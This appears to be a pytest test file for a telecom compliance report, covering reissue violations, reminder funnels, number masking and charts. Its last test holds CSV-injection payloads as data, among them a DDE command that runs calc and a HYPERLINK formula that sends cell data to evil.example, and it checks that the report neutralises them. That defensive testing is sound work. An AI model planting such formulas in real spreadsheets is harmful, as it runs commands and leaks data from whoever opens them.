"""The compliance report: every figure and table against a small history counted by hand.

The history is inserted row by row into the lifecycle's tables (``tenures``, ``releases``,
``reissues``, ``state_history``, ``number_state``, ``reminders``, ``quarantine``) and the
alert acknowledgements; the comments next to each row say which figure it feeds. Period:
2026-03-01 .. 2026-03-10; the state has processed nights up to 2026-03-12 (two nights
after the period, whose events must not count).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import duckdb
import pytest
from typer.testing import CliRunner

from pipelines import db
from pipelines.cli import app
from pipelines.compliance.alerts import acknowledge
from pipelines.compliance.report import HEADLINE, build_report
from pipelines.config import Policy, Settings
from pipelines.errors import TerminalError
from pipelines.numbers import mask

FIRST, LAST = dt.date(2026, 3, 1), dt.date(2026, 3, 10)
NIGHT = dt.date(2026, 3, 12)  # the last night processed into the state
AT = dt.datetime(2026, 3, 10, 9, 0, tzinfo=dt.UTC)
SETTINGS = Settings(
    carrier_name="Test Mobile",
    policies={
        "default": Policy(
            freeze_days=10,
            suspend_days=5,
            reminder_offsets=(0, 4, -3),
            min_effective_reminders=2,
            max_hold_days=3,
        ),
        "BJ": Policy(freeze_days=20, suspend_days=5, reminder_offsets=(0, 4, -3)),
    },
)
SHA = "f" * 64


def d(month: int, day: int) -> dt.date:
    return dt.date(2026, month, day)


def num(i: int) -> str:
    return f"+86138000000{i:02d}"


A, B, C, D_, E, F, G, H, I_, J, K, L, M, N, O_ = (num(i) for i in range(1, 16))


def tenure(
    con: duckdb.DuckDBPyConnection, n: str, region: str, end: dt.date | None, reason: str | None
) -> None:
    con.execute(
        "INSERT INTO tenures VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        [
            f"T{n[-2:]}",
            n,
            d(1, 1),
            end,
            reason,
            f"S{n[-2:]}",
            region,
            "li@example.cn",
            "+8613911112222",
            "zh-CN",
            "snapshot",
            d(1, 1),
        ],
    )


def release(
    con: duckdb.DuckDBPyConnection, n: str, region: str, disc: dt.date, rel: dt.date, eff: int, exc: bool
) -> None:
    con.execute(
        "INSERT INTO releases VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
        [n, f"T{n[-2:]}", disc, rel, eff, exc, rel, region],
    )


def reissue(
    con: duckdb.DuckDBPyConnection,
    n: str,
    region: str,
    on: dt.date,
    prior_end: dt.date,
    violation: bool,
    line: int,
    from_state: str,
) -> None:
    con.execute(
        "INSERT INTO reissues VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        [n, f"T{n[-2:]}", f"N{n[-2:]}", on, prior_end, None, violation, on, region, SHA, line],
    )
    con.execute(
        "INSERT INTO state_history VALUES (?, ?, ?, 'active', ?, ?, 'reissue', ?, ?)",
        [n, f"N{n[-2:]}", from_state, on, on, SHA, line],
    )


def held(con: duckdb.DuckDBPyConnection, n: str, on: dt.date) -> None:
    con.execute(
        "INSERT INTO state_history VALUES (?, ?, 'frozen', 'held', ?, ?, 'held', NULL, NULL)",
        [n, f"T{n[-2:]}", on, on],
    )


def number_state(con: duckdb.DuckDBPyConnection, n: str, st: str, region: str) -> None:
    con.execute(
        "INSERT INTO number_state VALUES (?, ?, ?, ?, NULL, NULL, NULL, NULL, NULL, NULL, NULL, ?, ?)",
        [n, st, f"T{n[-2:]}", d(3, 1), region, d(3, 1)],
    )


def reminder(
    con: duckdb.DuckDBPyConnection, n: str, channel: str, due: dt.date, status: str, sent: bool
) -> None:
    rid = f"R{n[-2:]}{channel}{due:%m%d}"
    con.execute(
        "INSERT INTO reminders VALUES (?, ?, ?, ?, 'offset:0', 1, false, ?, 'addr', 'zh-CN', ?, ?, 1,"
        " NULL, ?, ?, ?, NULL, false, NULL, ?, 'cancel')",
        [
            rid,
            f"T{n[-2:]}",
            n,
            d(3, 2),
            channel,
            due,
            status,
            due if sent else None,
            due if status in ("delivered", "acknowledged") else None,
            d(3, 2),
            d(3, 12),
        ],
    )


def quarantine(con: duckdb.DuckDBPyConnection, on: dt.date, line: int, stage: str, reason: str) -> None:
    con.execute(
        "INSERT INTO quarantine VALUES ('f.csv', ?, 'lifecycle', ?, ?, ?, ?, 'x', NULL)",
        [SHA, on, line, stage, reason],
    )


def build_history(con: duckdb.DuckDBPyConnection) -> None:
    # Disconnections in the period: 03-02 GD x2 (cancel A, 双停 B), 03-05 BJ (C), 03-06 BJ (F,
    # closed by an illegal reissue). Not: a port (D), before (E, J, N) or after (H) the
    # period, an open tenure (G).
    tenure(con, A, "GD", d(3, 2), "cancel")
    tenure(con, B, "GD", d(3, 2), "suspend")
    tenure(con, C, "BJ", d(3, 5), "cancel")
    tenure(con, D_, "BJ", d(3, 3), "port_out")
    tenure(con, E, "GD", d(2, 20), "cancel")
    tenure(con, F, "BJ", d(3, 6), "reissue")
    tenure(con, G, "GD", None, None)
    tenure(con, H, "GD", d(3, 11), "cancel")
    tenure(con, J, "GD", d(2, 18), "cancel")
    tenure(con, N, "BJ", d(2, 25), "cancel")
    # Releases in the period: 4, two with an exception (J, K); days 12, 10, 18, 17.
    release(con, E, "GD", d(2, 20), d(3, 4), 2, False)
    release(con, I_, "BJ", d(2, 22), d(3, 4), 3, False)
    release(con, J, "GD", d(2, 18), d(3, 8), 1, True)
    release(con, K, "BJ", d(2, 19), d(3, 8), 0, True)
    release(con, L, "GD", d(2, 10), d(2, 28), 2, False)  # before
    release(con, M, "GD", d(3, 1), d(3, 11), 2, False)  # after
    # Held at the gate in the period: J (03-05, GD), N (03-09, BJ); K before. Held now: N, O.
    held(con, J, d(3, 5))
    held(con, N, d(3, 9))
    held(con, K, d(2, 27))
    number_state(con, N, "held", "BJ")
    number_state(con, O_, "held", "GD")
    number_state(con, A, "frozen", "GD")
    # Reissues in the period: I (clean), F (violation: was active), C (violation: was frozen).
    reissue(con, I_, "BJ", d(3, 6), d(2, 22), False, 1, "available")
    reissue(con, F, "BJ", d(3, 6), d(3, 6), True, 2, "active")
    reissue(con, C, "BJ", d(3, 7), d(3, 5), True, 3, "frozen")
    reissue(con, E, "GD", d(3, 12), d(2, 20), False, 4, "available")  # after
    # Reminders due in the period (A: GD, C: BJ); E's and B's are outside it.
    reminder(con, A, "sms", d(3, 2), "delivered", True)
    reminder(con, A, "sms", d(3, 6), "acknowledged", True)
    reminder(con, A, "sms", d(3, 9), "cancelled", False)
    reminder(con, A, "email", d(3, 6), "failed", True)
    reminder(con, A, "letter", d(3, 9), "scheduled", False)
    reminder(con, C, "email", d(3, 5), "sent", True)
    reminder(con, C, "letter", d(3, 5), "delivered", True)
    reminder(con, E, "sms", d(2, 25), "delivered", True)
    reminder(con, B, "sms", d(3, 11), "scheduled", False)
    # Quarantine in the period: 2 x ingest/bad_number, 1 x lifecycle/illegal_transition.
    quarantine(con, d(3, 1), 2, "ingest", "bad_number")
    quarantine(con, d(3, 3), 3, "ingest", "bad_number")
    quarantine(con, d(3, 4), 4, "lifecycle", "illegal_transition")
    quarantine(con, d(2, 27), 5, "ingest", "bad_date")
    con.execute(
        "INSERT INTO files VALUES ('lifecycle_x.csv', 'lifecycle', ?, ?, 'ingested', 0, 0, 0,"
        " 'utf-8', ',', NULL)",
        [SHA, NIGHT],
    )
    # Ops acknowledged C's violation and J's exception; F's and K's are open.
    acknowledge(con, C, d(3, 7), "sales error, owner called", "ops.li", AT)
    acknowledge(con, J, d(3, 8), "no contact on file", "ops.wang", AT)


@pytest.fixture
def con(tmp_path: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    c = db.connect(tmp_path / "state.duckdb")
    build_history(c)
    yield c
    c.close()


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def ints(rows: list[dict[str, str]], *keys: str) -> list[tuple[Any, ...]]:
    return [tuple(int(r[k]) if r[k].isdigit() else r[k] for k in keys) for r in rows]


EXPECTED_HEADLINE = {
    "disconnections": 4,
    "released": 4,
    "released_with_exception": 2,
    "entered_hold": 2,
    "held_now": 2,
    "reissues": 3,
    "reissue_violations": 2,
    "unacknowledged": 2,
    "quarantined": 3,
}


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """One report of the history, shared by the tests that only read it (a build takes ~1 s)."""
    folder = tmp_path_factory.mktemp("report")
    with db.open_state(folder / "state.duckdb") as c:
        build_history(c)
        return build_report(c, SETTINGS, FIRST, LAST, folder / "out")


def test_headline_figures(built: Any) -> None:
    assert dict(built.headline) == EXPECTED_HEADLINE
    assert built.state_through == NIGHT
    rows = read_csv(built.csv_files["headline"])
    assert {r["figure"]: int(r["value"]) for r in rows} == EXPECTED_HEADLINE
    page = built.html.read_text(encoding="utf-8")
    for key, value in EXPECTED_HEADLINE.items():
        assert f'id="h-{key}">{value}</div>' in page
    assert [k for k, _, _ in HEADLINE] == list(EXPECTED_HEADLINE)


def test_daily_activity_per_region(built: Any) -> None:
    rows = read_csv(built.csv_files["daily_by_region"])
    keys = (
        "day",
        "region",
        "disconnections",
        "released",
        "released_with_exception",
        "entered_hold",
        "reissues",
        "reissue_violations",
    )
    assert ints(rows, *keys) == [
        ("2026-03-02", "GD", 2, 0, 0, 0, 0, 0),
        ("2026-03-04", "BJ", 0, 1, 0, 0, 0, 0),
        ("2026-03-04", "GD", 0, 1, 0, 0, 0, 0),
        ("2026-03-05", "BJ", 1, 0, 0, 0, 0, 0),
        ("2026-03-05", "GD", 0, 0, 0, 1, 0, 0),
        ("2026-03-06", "BJ", 1, 0, 0, 0, 2, 1),
        ("2026-03-07", "BJ", 0, 0, 0, 0, 1, 1),
        ("2026-03-08", "BJ", 0, 1, 1, 0, 0, 0),
        ("2026-03-08", "GD", 0, 1, 1, 0, 0, 0),
        ("2026-03-09", "BJ", 0, 0, 0, 1, 0, 0),
    ]


def test_reminder_funnel_per_channel_and_region(built: Any) -> None:
    keys = ("scheduled", "sent", "delivered", "acknowledged", "failed", "not_yet_sent", "cancelled")
    by_channel = read_csv(built.csv_files["reminder_funnel_by_channel"])
    assert ints(by_channel, "channel", *keys) == [
        ("email", 2, 2, 0, 0, 1, 0, 0),
        ("letter", 2, 1, 1, 0, 0, 1, 0),
        ("sms", 2, 2, 2, 1, 0, 0, 1),
    ]
    by_region = read_csv(built.csv_files["reminder_funnel_by_region"])
    assert ints(by_region, "region", *keys) == [
        ("BJ", 2, 2, 1, 0, 0, 0, 0),
        ("GD", 4, 3, 2, 1, 1, 1, 1),
    ]


def test_time_to_release_and_effective_reminders(built: Any) -> None:
    days = read_csv(built.csv_files["days_to_release"])
    assert ints(days, "days", "released", "released_with_exception") == [
        (10, 1, 0),
        (12, 1, 0),
        (17, 1, 1),
        (18, 1, 1),
    ]
    eff = read_csv(built.csv_files["effective_reminders"])
    assert ints(eff, "effective_reminders", "released", "released_with_exception") == [
        (0, 1, 1),
        (1, 1, 1),
        (2, 1, 0),
        (3, 1, 0),
    ]


def test_exception_and_violation_listings_are_masked_and_show_acks(built: Any) -> None:
    exc = read_csv(built.csv_files["exceptions"])
    assert [
        (
            r["number"],
            r["region"],
            r["disconnected_on"],
            r["released_on"],
            r["effective_reminders"],
            r["acknowledged"],
            r["ack_reason"],
            r["ack_by"],
        )
        for r in exc
    ] == [
        (mask(J), "GD", "2026-02-18", "2026-03-08", "1", "true", "no contact on file", "ops.wang"),
        (mask(K), "BJ", "2026-02-19", "2026-03-08", "0", "false", "", ""),
    ]
    vio = read_csv(built.csv_files["violations"])
    assert [
        (
            r["number"],
            r["reissue_date"],
            r["prior_disconnected_on"],
            r["state_at_reissue"],
            r["recorded_on"],
            r["acknowledged"],
            r["ack_by"],
        )
        for r in vio
    ] == [
        (mask(F), "2026-03-06", "2026-03-06", "active", "2026-03-06", "false", ""),
        (mask(C), "2026-03-07", "2026-03-05", "frozen", "2026-03-07", "true", "ops.li"),
    ]
    acks = read_csv(built.csv_files["acknowledgements"])
    assert [(r["number"], r["kind"], r["on_date"], r["acked_by"], r["acked_at"]) for r in acks] == [
        (mask(C), "reissue_violation", "2026-03-07", "ops.li", "2026-03-10T09:00:00Z"),
        (mask(J), "release_exception", "2026-03-08", "ops.wang", "2026-03-10T09:00:00Z"),
    ]
    quarantined = read_csv(built.csv_files["quarantine"])
    assert ints(quarantined, "stage", "reason", "rows") == [
        ("ingest", "bad_number", 2),
        ("lifecycle", "illegal_transition", 1),
    ]
    policy = read_csv(built.csv_files["policy"])
    assert [(r["region"], r["freeze_days"], r["reminder_offsets"]) for r in policy] == [
        ("default", "10", "0 4 -3"),
        ("BJ", "20", "0 4 -3"),
    ]


def test_page_is_self_contained_and_never_shows_a_full_number(built: Any) -> None:
    page = built.html.read_text(encoding="utf-8")
    assert "Plotly.newPlot" in page and page.count("Plotly.newPlot") == 4
    assert not re.search(r"<script[^>]+src=", page)  # plotly.js inlined: opens offline
    assert len(page) > 3_000_000
    assert "2026-03-01 to 2026-03-10" in page and "Test Mobile" in page
    assert mask(F) in page and mask(K) in page
    texts = [page] + [p.read_text(encoding="utf-8") for p in built.csv_files.values()]
    for n in (A, B, C, D_, E, F, G, H, I_, J, K, L, M, N, O_, "+8613911112222"):
        for text in texts:
            assert n not in text and n[3:] not in text


def test_same_state_same_bytes(con: duckdb.DuckDBPyConnection, tmp_path: Path, built: Any) -> None:
    again = build_report(con, SETTINGS, FIRST, LAST, tmp_path / "again")
    assert again.html.read_bytes() == built.html.read_bytes()
    for name, path in built.csv_files.items():
        assert again.csv_files[name].read_bytes() == path.read_bytes()


def test_an_empty_period_and_a_reversed_one(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    empty = build_report(con, SETTINGS, d(6, 1), d(6, 30), tmp_path / "june")
    assert empty.headline["released"] == 0 and empty.headline["held_now"] == 2
    page = empty.html.read_text(encoding="utf-8")
    assert "no data in this period" in page and "state covers nights up to 2026-03-12" in page
    with pytest.raises(TerminalError):
        build_report(con, SETTINGS, LAST, FIRST, tmp_path / "bad")


def test_read_only_state_without_acks_table(tmp_path: Path) -> None:
    path = tmp_path / "old.duckdb"
    c = db.connect(path)
    build_history(c)
    c.execute("DROP TABLE alert_acks")  # a state file from before the alerts existed
    c.close()
    with db.open_state(path, read_only=True) as ro:
        built = build_report(
            ro, replace(SETTINGS, policies={"default": Policy()}), FIRST, LAST, tmp_path / "out"
        )
    assert built.headline["unacknowledged"] == 4  # nothing acknowledged without the table
    assert read_csv(built.csv_files["acknowledgements"]) == []


def test_cli_report(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    con.close()
    data = tmp_path / "data"
    data.mkdir()
    (tmp_path / "state.duckdb").rename(data / "state.duckdb")
    out = tmp_path / "cli"
    result = CliRunner().invoke(
        app, ["report", "--from", "2026-03-01", "--to", "2026-03-10", "--out", str(out), "--data", str(data)]
    )
    assert result.exit_code == 0, result.output
    assert (out / "report.html").exists() and (out / "violations.csv").exists()
    assert re.search(r"Reissue violations\s*│\s*2", result.output)


def chart_traces(page: str, div_id: str) -> list[dict[str, Any]]:
    """The traces plotly draws in ``div_id``: the first argument after the id of Plotly.newPlot."""
    match = re.search(r'Plotly\.newPlot\(\s*"' + div_id + r'",\s*', page)
    assert match, f"no chart {div_id}"
    traces, _ = json.JSONDecoder().raw_decode(page, match.end())
    return list(traces)


def test_charts_draw_the_hand_counted_figures(built: Any) -> None:
    page = built.html.read_text(encoding="utf-8")
    days = {t["name"]: dict(zip(t["x"], t["y"], strict=True)) for t in chart_traces(page, "chart-days")}
    assert days == {
        "released": {10: 1, 12: 1, 17: 0, 18: 0},
        "released with exception": {10: 0, 12: 0, 17: 1, 18: 1},
    }
    eff = {t["name"]: t["y"] for t in chart_traces(page, "chart-effective")}
    assert eff == {"released": [0, 0, 1, 1], "released with exception": [1, 1, 0, 0]}
    funnel = chart_traces(page, "chart-funnel")
    bars = {t["name"]: t["y"] for t in funnel if t["type"] == "bar"}
    assert bars == {"email": [2, 2, 0, 0], "letter": [2, 1, 1, 0], "sms": [2, 2, 2, 1]}
    (heat,) = [t for t in funnel if t["type"] == "heatmap"]
    assert heat["y"] == ["BJ", "GD"]
    assert heat["z"] == [[1.0, 1.0, 0.5, 0.0], [1.0, 0.75, 0.5, 0.25]]
    # Daily panels: one bar trace per region and panel (axes y, y2, y3, y4), one bar per day.
    daily = chart_traces(page, "chart-daily")
    totals: dict[str, dict[str, int]] = {}
    for t in daily:
        panel = totals.setdefault(t.get("yaxis", "y"), {})
        for x, y in zip(t["x"], t["y"], strict=True):
            panel[x] = panel.get(x, 0) + y
    nonzero = {axis: {day: n for day, n in per.items() if n} for axis, per in totals.items()}
    assert nonzero == {
        "y": {"2026-03-02": 2, "2026-03-05": 1, "2026-03-06": 1},  # disconnections
        "y2": {"2026-03-04": 2, "2026-03-08": 2},  # releases
        "y3": {"2026-03-05": 1, "2026-03-09": 1},  # holds
        "y4": {"2026-03-06": 2, "2026-03-07": 1},  # reissues
    }
    assert {t["name"] for t in daily} == {"BJ", "GD"}


HOSTILE = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"y")', "+1+1", "-2+3", "@SUM(A1)")


def test_report_csvs_never_hold_a_formula(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    # OWASP CSV injection: operator-typed reasons and names, and a region read from the state,
    # reach the CSVs; a spreadsheet must show them, never run them.
    acknowledge(con, F, d(3, 6), HOSTILE[0], HOSTILE[4], AT)
    acknowledge(con, K, d(3, 8), HOSTILE[1], HOSTILE[2], AT)
    con.execute("UPDATE releases SET region = ? WHERE msisdn = ?", [HOSTILE[3], I_])
    built = build_report(con, SETTINGS, FIRST, LAST, tmp_path / "out")
    cells = [cell for path in built.csv_files.values() for row in csv.reader(path.open()) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for value in HOSTILE:
        assert "'" + value in cells
    raw = built.csv_files["exceptions"].read_text()  # neutralised, and quoted by the writer
    assert '"\'=HYPERLINK(""http://evil.example' in raw
